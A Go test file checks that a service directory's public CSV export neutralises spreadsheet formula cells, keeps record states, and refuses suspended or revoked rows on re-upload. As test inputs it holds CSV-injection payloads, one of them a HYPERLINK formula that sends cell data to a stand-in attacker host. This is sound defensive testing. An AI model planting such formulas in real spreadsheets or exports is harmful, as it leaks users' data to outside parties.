package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/svc-directory/svc/csvjob"
)

// The public export neutralises cells a spreadsheet would run as formulas, carries each
// record's state, and uploads again losslessly: the hostile values come back as they were,
// a draft stays a draft, and a suspended or revoked record is refused rather than made live
// (both dialects).
func TestExportIsSafeForSpreadsheetsAndReuploads(t *testing.T) {
	eachDialect(t, func(t *testing.T, h *harness) {
		ctx := context.Background()
		key := h.key("owner@example.com")
		id := publish(t, h, key)
		for _, name := range []string{"people", "copy"} {
			h.must(http.StatusCreated, "POST", "/svc/"+id+"/create-registry", key, `{"registry_name":"`+name+`","schema":`+csvSchema+`}`)
		}
		reg := "/svc/" + id + "/people"
		hostile := map[string]string{
			"f1": `=HYPERLINK("http://evil.example/?"&A1,"x")`, "f2": "+1+1", "f3": "-2+3", "f4": "@SUM(A1)",
			"f5": "\t=1", "f6": "\r=1", "f7": "'=1", "f8": "''", "f9": "'tis",
		}
		for name, v := range hostile {
			body := map[string]any{"record_name": name, "details": map[string]any{"email": v, "note": v, "address": map[string]any{"city": v}, "age": -3}}
			h.must(http.StatusCreated, "POST", reg+"/add-record", key, body)
		}
		h.must(http.StatusCreated, "POST", reg+"/add-record", key, `{"record_name":"d1","details":{"email":"=draft"},"state":"draft"}`)
		h.must(http.StatusCreated, "POST", reg+"/add-record", key, `{"record_name":"s1","details":{"email":"s@example.com"}}`)
		h.must(http.StatusOK, "POST", reg+"/s1/suspend-record", key, nil)
		h.must(http.StatusCreated, "POST", reg+"/add-record", key, `{"record_name":"r1","details":{"email":"r@example.com"}}`)
		h.must(http.StatusOK, "POST", reg+"/r1/revoke-record", key, nil)

		anon := export(t, h, reg+"/export-records-as-csv", "")
		rows, err := csv.NewReader(bytes.NewReader(anon)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if rows[0][0] != "record_name" || rows[0][1] != "record_state" || len(rows) != 1+len(hostile)+2 {
			t.Fatalf("the anonymous export: header %q, %d rows; want record_state and no draft", rows[0], len(rows)-1)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("the public export holds the formula cell %q", cell)
				}
			}
		}
		states := map[string]string{}
		for _, row := range rows[1:] {
			states[row[0]] = row[1]
		}
		if states["s1"] != "suspended" || states["r1"] != "revoked" || states["f1"] != "live" {
			t.Fatalf("record_state: %v", states)
		}

		// The owner's export (with the draft) uploaded into the empty registry.
		r := upload(t, h, "/svc/"+id+"/copy/bulk-upload", key, export(t, h, reg+"/export-records-as-csv", key))
		if r.Status != http.StatusAccepted {
			t.Fatalf("re-upload: %d %v", r.Status, r.Body)
		}
		if found, err := csvjob.NewWorker(h.store, nil, nil).RunOnce(ctx); !found || err != nil {
			t.Fatalf("the import: %v, %v", found, err)
		}
		j := h.must(http.StatusOK, "GET", "/svc/jobs/"+r.data()["job_id"].(string), key, nil).data()
		if j["error_rows"] != 2.0 || !strings.Contains(jobErrorsText(j["errors"]), "suspended") || !strings.Contains(jobErrorsText(j["errors"]), "revoked") {
			t.Fatalf("the import's row errors: %v", j)
		}
		for name, v := range hostile {
			d := h.must(http.StatusOK, "GET", "/svc/lookup/"+id+"/copy/"+name, "", nil).data()["details"].(map[string]any)
			if d["email"] != v || d["note"] != v || d["address"].(map[string]any)["city"] != v || d["age"] != -3.0 {
				t.Fatalf("%s came back as %q; want %q", name, d, v)
			}
		}
		if d := h.must(http.StatusOK, "GET", "/svc/lookup/"+id+"/copy/d1", key, nil).data(); d["state"] != "draft" {
			t.Fatalf("the draft came back %v", d["state"])
		}
		h.must(http.StatusNotFound, "GET", "/svc/lookup/"+id+"/copy/d1", "", nil)
		for _, name := range []string{"s1", "r1"} {
			h.must(http.StatusNotFound, "GET", "/svc/lookup/"+id+"/copy/"+name, key, nil)
		}
	})
}

// jobErrorsText is the messages of a job's row errors, a line each.
func jobErrorsText(v any) string {
	var b strings.Builder
	for _, e := range v.([]any) {
		b.WriteString(e.(map[string]any)["message"].(string) + "\n")
	}
	return b.String()
}
